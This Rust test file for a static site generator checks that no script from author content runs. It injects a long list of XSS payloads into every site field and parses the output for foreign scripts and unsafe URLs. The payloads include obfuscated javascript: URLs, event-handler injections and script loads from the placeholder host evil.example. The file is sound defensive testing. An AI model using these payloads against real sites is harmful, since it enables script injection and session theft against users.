//! Promise 14: no script from content ever runs. Hundreds of payloads go through every field an author
//! can write; the output is parsed as a browser parses it.

use std::collections::BTreeSet;

use quick_xml::events::Event;
use rayon::prelude::*;
use scraper::{Html, Selector};
use serde_json::Value;

use super::harness::{SiteTest, TEXT_PICTURE};

/// Known attacks: elements, attributes, URLs, ends of the enclosing context, encodings, templates,
/// and Markdown that might turn into any of them.
const BASES: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example) }</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<p style=background:url(//evil.example)>x</p>",
    "<a ping=//evil.example href=/>x</a>",
    "<img srcset='//evil.example/x 1x' src=x>",
    "<isindex action=javascript:alert(1) type=image>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</time></p></article><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<!--<script>",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>'>]>&e;",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=`alert(1)",
    "x onerror=alert(1)",
    "\\\" onerror=alert(1) \\\"",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\u{ad}script:alert(1)",
    "\u{1}javascript:alert(1)",
    "\u{feff}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "https://x.example/\"onmouseover=\"alert(1)",
    "https://x.example/'><script>alert(1)</script>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "mailto:a@b.example?body=<script>alert(1)</script>",
    "{{ site | safe }}{% include \"nowhere\" %}{# #}",
    "{{ \"<script>alert(1)</script>\" | safe }}",
    "${alert(1)}<%= 1 %>",
    "\u{2028}alert(1)\u{2029}",
    "\u{202e}<script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<img\u{b}src=x\u{b}onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](/\"onmouseover=\"alert(1))",
    "[x](https://x.example/ \"t\\\" onmouseover=\\\"alert(1)\")",
    "![x](javascript:alert(1))",
    "![\" onerror=\"alert(1)](/pic.png)",
    "![x](/pic.png \"\\\" onerror=\\\"alert(1)\")",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://x.example/\"onmouseover=\"alert(1)>",
    "<a@b.example\"onmouseover=\"alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[[figures/lee|<img src=x onerror=alert(1)>]]",
    "[[\"><script>alert(1)</script>]]",
    "[[figures/lee#\"><script>alert(1)</script>|x]]",
    "[[!<script>alert(1)</script>]]",
    "[@\"><script>alert(1)</script>]",
    "[@own, <script>alert(1)</script>]",
    "[@https://x.example/\"><script>alert(1)</script>]",
    "# h {onclick=alert(1) #x\"><script> .y\"onload=}",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "x[^\"><script>]\n\n[^\"><script>]: <script>alert(1)</script>",
    "| <script>alert(1)</script> | x |\n|:---|\"onload|\n| <img src=x onerror=alert(1)> | y |",
    "> [!NOTE]\"><script>alert(1)</script>\n> x",
    "> x\n>\n> — <script>alert(1)</script>, \"onload=, 7 July 2020",
    "- [ ] <script>alert(1)</script>",
    "Term <script>\n: <script>alert(1)</script>",
    "*<script>*alert(1)**</script>**",
];

/// Ways to escape the enclosing context or a filter; `@` is the payload.
const WRAPPERS: [&str; 6] = ["@", "\">@", "'>@", "--></p>@", "*x*@*y*", "x\n\n@\n\nx"];

fn payloads() -> Vec<String> {
    WRAPPERS
        .iter()
        .flat_map(|wrapper| BASES.iter().map(|base| wrapper.replace('@', base)))
        .collect()
}

/// A site with the payload in every field an author can write: `@@` is a string of YAML or TOML, `%%`
/// Markdown, `$$` what is between the quotation marks of a cell of CSV.
const SINKS: &[(&str, &str)] = &[
    (
        "site.toml",
        "title = @@\nbase_url = \"https://example.org/\"\ndescription = @@\n[publisher]\nname = @@\ncontact = @@\ncorrections = @@\nlicense = @@\n[authors.a]\nname = @@\nrole = @@\nbio = @@\n[theme_options]\nfooter = @@\n[theme_options.words]\ntimeline = @@\nfacts = @@\n[embeds]\nyoutube = true\n[navigation]\nmain = [{ title = @@, to = \"/timeline/\" }]\n[kinds.figures]\ntitle = @@\n",
    ),
    ("content/_index.md", "---\ndescription: @@\n---\n%%\n"),
    (
        "content/sources.toml",
        "[[sources]]\nid = \"shared\"\ntitle = @@\npublisher = @@\ntype = @@\nwithdrawn = { date = 2020-07-02, note = @@ }\n",
    ),
    (
        "content/articles/a.md",
        "---\ntitle: @@\ndescription: @@\ndate: 2020-07-01\nauthors: [a]\ntype: @@\nabout: [figures/lee]\nkey_points: [@@, @@]\nwhere_things_stand: { state: @@, note: @@ }\nsources:\n  - { id: own, title: @@, publisher: @@, type: @@ }\nupdates: [{ date: 2020-07-02, type: correction, note: @@ }]\nimage: { src: pic.png, alt: @@, caption: @@, credit: @@, license: @@ }\n---\nAnn Lee went to the summit [@own; @shared].\n\n%%\n\n## Part %%\n\nAnn Lee. %% [@own, p. %%]\n\n> %%\n> — Ann Lee, %%, 7 July 2020\n\n![%%](pic.png \"%%\")\n\n[%%](../figures/lee.md)\n",
    ),
    (
        "content/articles/b.md",
        "---\ntitle: B\ndate: 2020-06-01\n---\n%%\n\nAnn Lee at the summit in Mali. [x](%%) ![y](%%) <%%> [[%%]] [@%%] ```%%\n\n| %% |\n|---|\n| %% |\n\n[^n]: %%\n",
    ),
    (
        "content/articles/c.md",
        "---\ntitle: C\nsources:\n  - { id: u, title: U, url: @@, archived: @@ }\nredirect_from: [@@]\nslug: @@\nlanguage: @@\n---\nx [@u]\n",
    ),
    (
        "content/articles/map.md",
        "---\ntitle: M\ndate: 2020-06-02\n---\n```map\ntitle = @@\nevents = [\"events/summit\"]\nplaces = [{ name = @@, coordinates = [13.0, -8.0], to = \"figures/lee\" }]\n```\n",
    ),
    (
        "content/articles/film.md",
        "---\ntitle: F\ndate: 2020-06-03\n---\n![%%](film.mp4 \"%%\")\n\n![x](talk.mp3)\n\n[%%](https://youtu.be/dQw4w9WgXcQ)\n\n[x](https://archive.org/details/%%?t=%%)\n\n<https://archive.org/details/a/%%>\n",
    ),
    ("content/articles/film.mp4", "film"),
    ("content/articles/film.mp4.toml", "alt = @@\ncaption = @@\ncredit = @@\n"),
    ("content/articles/film.png", TEXT_PICTURE),
    ("content/articles/film.vtt", "WEBVTT"),
    ("content/articles/talk.mp3", "sound"),
    ("content/articles/talk.txt", "%%"),
    (
        "content/articles/d/index.md",
        "---\ntitle: D\ndate: 2020-05-01\n---\nx\n\n```chart\nkind = \"bar\"\ntitle = @@\nunit = @@\ncolumns = [@@, @@, \"N\"]\nrows = [[@@, 1, \"\"], [@@, 2.5, -3]]\nhighlight = @@\nnote = @@\nsource = @@\n```\n\n```chart\nkind = \"line\"\ntitle = @@\ndata = \"d.csv\"\nsource = \"[@shared]\"\n```\n\n```chart\nkind = \"column\"\ntitle = \"T\"\ncolumns = [\"Year\", @@, @@]\nrows = [[\"2006\", @@, 1], [\"2007\", 2, 3]]\n```\n",
    ),
    ("content/articles/d/d.csv", "\"$$\",\"$$\",N\n\"$$\",1,2\n\"x\",3,4\n"),
    ("content/articles/pic.png", TEXT_PICTURE),
    ("content/articles/pic.png.toml", "alt = @@\ncaption = @@\ncredit = @@\nlicense = @@\n"),
    (
        "content/figures/lee.md",
        "---\ntitle: Ann Lee\ndescription: @@\nin_brief: @@\nfamily_name: Lee\nalso_known_as: [@@]\nnative_name: { text: @@, language: ko }\npronunciation: @@\nsort_name: @@\nwikidata: @@\nwhy: @@\ncountry: mali\nroles: [{ office: @@, organisation: @@, from: 2019 }]\nrelations: [{ to: countries/mali, type: @@, text: @@ }]\nimage: { src: pic.png, alt: @@ }\n---\n%%\n",
    ),
    ("content/figures/pic.png", TEXT_PICTURE),
    (
        "content/countries/mali.md",
        "---\ntitle: Mali\niso: ML\nofficial_name: @@\ncapital: @@\nregion: @@\ndemonyms: [@@]\nmetonyms: [@@]\nstance: { text: @@, sources: [shared] }\ndescription: @@\n---\n%%\n",
    ),
    (
        "content/events/summit.md",
        "---\ntitle: summit\ndate: 2020-05-01\ndescription: @@\nplace: { name: @@, country: mali }\ntype: @@\nparticipants: [{ who: figures/lee, side: @@, role: @@ }, countries/mali]\noutcome: @@\nsignificance: @@\naccounts: [{ side: @@, text: @@, sources: [shared] }]\ndocuments: [{ title: @@, url: @@ }]\ncertainty: { level: disputed, note: @@ }\n---\n%%\n",
    ),
    ("content/terms/t.md", "---\ntitle: @@\n---\n"),
    ("content/organisations/o.md", "# %%\n\n%%\n"),
];

fn site(payload: &str) -> SiteTest {
    // JSON strings are valid in YAML and TOML.
    let text = serde_json::to_string(payload).expect("JSON").replace('\u{7f}', "");
    let cell = payload.replace('"', "\"\"");
    let fill = |file: &str| file.replace("@@", &text).replace("%%", payload).replace("$$", &cell);
    SiteTest::new().files(SINKS.iter().map(|(path, file)| (*path, fill(file))))
}

/// Elements that Markdown and the theme may produce.
const ELEMENTS: &str = " html head meta title link script body header nav main footer aside article section search div p h1 h2 h3 h4 h5 h6 ul ol li dl dt dd a span strong em \
    b i small sup del code pre blockquote figure figcaption cite time img picture source video audio track bdi table thead tbody tr th td hr br details summary button label select option output input svg path rect circle g text form noscript ";

/// Attributes that Markdown and the theme may produce.
const ATTRIBUTES: &str = " lang dir charset http-equiv content name property rel href as crossorigin hreflang type title src defer data-open data-search data-section data-shown data-target data-who class id role \
    aria-label aria-labelledby aria-current aria-hidden aria-describedby datetime alt width height srcset sizes fetchpriority decoding loading start popover popovertarget tabindex scope colspan align hidden value \
    data-index data-hint data-close data-loading data-failed data-instead data-names-only data-count data-nothing data-missing data-nearest data-every data-partial data-start data-filter data-country data-year data-reset data-on-page data-key data-later data-page data-figures data-countries \
    data-events data-articles data-others data-organisations data-terms data-all data-more data-label data-search-form action placeholder autocomplete autocapitalize spellcheck enterkeyhint \
    for disabled checked controls preload viewbox preserveaspectratio focusable d stroke-width poster kind srclang label default data-player viewBox preserveAspectRatio x y cx cy r text-anchor transform download ";

/// Unexpected elements, attributes, URLs and scripts in markup.
fn faults(markup: &str, whole_page: bool) -> Vec<String> {
    let page = if whole_page { Html::parse_document(markup) } else { Html::parse_fragment(markup) };
    let mut faults = Vec::new();
    let all = Selector::parse("*").expect("a selector");
    for element in page.select(&all) {
        let name = element.value().name();
        if !ELEMENTS.contains(&format!(" {name} ")) {
            faults.push(format!("<{name}>"));
        }
        for (attribute, value) in element.value().attrs() {
            if !ATTRIBUTES.contains(&format!(" {attribute} ")) {
                faults.push(format!("{attribute} of <{name}>"));
            }
            if ["href", "src"].contains(&attribute) && !is_safe_url(value) {
                faults.push(format!("{attribute}={value:?}"));
            }
        }
        let value = |attribute| element.value().attr(attribute).unwrap_or_default();
        match name {
            "script" if value("type").is_empty() => {
                let is_ours = value("src").starts_with("/assets/broadsheet.")
                    && element.text().next().is_none();
                faults.extend((!is_ours).then(|| "a foreign script".to_owned()));
            }
            "script" => {
                let is_json = value("src").is_empty()
                    && serde_json::from_str::<Value>(&element.text().collect::<String>()).is_ok();
                faults.extend((!is_json).then(|| "invalid JSON".to_owned()));
            }
            "link"
                if value("rel") == "stylesheet"
                    && !value("href").starts_with("/assets/broadsheet.") =>
            {
                faults.push("a foreign stylesheet".to_owned())
            }
            "link"
                if value("rel") == "preload"
                    && !(value("href").starts_with("/assets/") && value("as") == "font") =>
            {
                faults.push("a foreign file loaded ahead".to_owned())
            }
            "meta"
                if value("http-equiv") == "refresh"
                    && !value("content").starts_with("0; url=/") =>
            {
                faults.push(format!("redirect to {}", value("content")))
            }
            "img" | "video" | "audio"
                if !value("src").starts_with('/') || value("src").starts_with("//") =>
            {
                faults.push(format!("loads {}", value("src")))
            }
            _ => {}
        }
    }
    faults
}

/// Reads a URL as browsers do (URL Standard §4.4): without control characters and spaces at the ends,
/// and without tabs and line breaks.
fn is_safe_url(address: &str) -> bool {
    let read: String = address
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let end = read.find(['/', '?', '#']).unwrap_or(read.len());
    match read[..end].split_once(':') {
        Some((scheme, _)) => {
            ["http", "https", "mailto", "tel"].contains(&&*scheme.to_ascii_lowercase())
        }
        None => true,
    }
}

#[test]
fn promise_14_no_script_from_content_ever_runs() {
    let payloads = payloads();
    assert!(payloads.len() >= 500, "only {} payloads", payloads.len());
    let found: Vec<String> = payloads
        .par_iter()
        .flat_map_iter(|payload| {
            let built = site(payload).build();
            let mut found = Vec::new();
            let mut pages = 0;
            for (path, bytes) in built.outputs() {
                let Ok(text) = std::str::from_utf8(bytes) else { continue };
                let faults = match path.rsplit('.').next() {
                    _ if path.ends_with('/') || path.ends_with(".html") => {
                        pages += 1;
                        faults(text, true)
                    }
                    Some("xml") => faults_in_atom(text),
                    Some("json") => faults_in_json(text),
                    _ => Vec::new(),
                };
                let faults: BTreeSet<String> = faults.into_iter().collect();
                found.extend(
                    faults.into_iter().map(|fault| format!("{payload:?} on {path}: {fault}")),
                );
            }
            // A file with a NUL byte makes no page.
            assert!(pages > 10 || payload.contains('\0'), "{payload:?}: only {pages} pages");
            found
        })
        .collect();
    assert_eq!(
        found.iter().take(20).collect::<Vec<_>>(),
        Vec::<&String>::new(),
        "{} in all",
        found.len()
    );
}

/// Elements of feeds, the sitemap and the OpenSearch description.
const XML: &str = " feed title subtitle id author name updated entry published summary content urlset url loc lastmod OpenSearchDescription ShortName LongName Description Language InputEncoding Url ";

/// Faults of the HTML in a feed, as a feed reader shows it.
fn faults_in_atom(xml: &str) -> Vec<String> {
    let mut reader = quick_xml::Reader::from_str(xml);
    let (mut faults_found, mut html, mut in_content) = (Vec::new(), String::new(), false);
    loop {
        match reader.read_event() {
            Ok(Event::Start(start)) if start.name().as_ref() == "content" => in_content = true,
            Ok(Event::End(end)) if end.name().as_ref() == "content" => {
                in_content = false;
                faults_found.extend(
                    faults(&std::mem::take(&mut html), false)
                        .into_iter()
                        .filter(|fault| !fault.starts_with("loads https://example.org/")),
                );
            }
            Ok(Event::Text(text)) if in_content => html.push_str(&text),
            Ok(Event::GeneralRef(name)) if in_content => html.push_str(match &*name {
                "lt" => "<",
                "gt" => ">",
                "quot" => "\"",
                "amp" => "&",
                _ => return vec!["an unknown entity".to_owned()],
            }),
            Ok(Event::Start(start)) if !XML.contains(&format!(" {} ", start.name().as_ref())) => {
                faults_found.push(format!("<{}>", start.name().as_ref()))
            }
            Ok(Event::Eof) => return faults_found,
            Ok(_) => {}
            Err(error) => return vec![error.to_string()],
        }
    }
}

fn faults_in_json(json: &str) -> Vec<String> {
    let Ok(value) = serde_json::from_str::<Value>(json) else {
        return vec!["invalid JSON".to_owned()];
    };
    let items = value["items"].as_array().into_iter().flatten();
    let html = items.filter_map(|item| item["content_html"].as_str());
    html.flat_map(|html| faults(html, false))
        .filter(|fault| !fault.starts_with("loads https://example.org/"))
        .collect()
}

#[test]
fn the_script_check_finds_planted_scripts() {
    for (markup, found) in [
        ("<p onclick=alert(1)>x</p>", "onclick of <p>"),
        ("<p style=x>x</p>", "style of <p>"),
        ("<iframe></iframe>", "<iframe>"),
        ("<a href=' java\tscript:alert(1)'>x</a>", "href=\" java\\tscript:alert(1)\""),
        ("<script>alert(1)</script>", "a foreign script"),
        ("<script type=application/json>{</script>", "invalid JSON"),
        ("<img src=//evil.example/x>", ""),
    ] {
        let faults = faults(markup, false);
        assert!(
            found.is_empty() || faults.iter().any(|fault| fault == found),
            "{markup}: {faults:?}"
        );
    }
    assert!(
        is_safe_url("/a:b")
            && is_safe_url("https://x")
            && is_safe_url("#x")
            && !is_safe_url("\u{1}data:x")
            && !is_safe_url("JAVASCRIPT:x")
    );
}
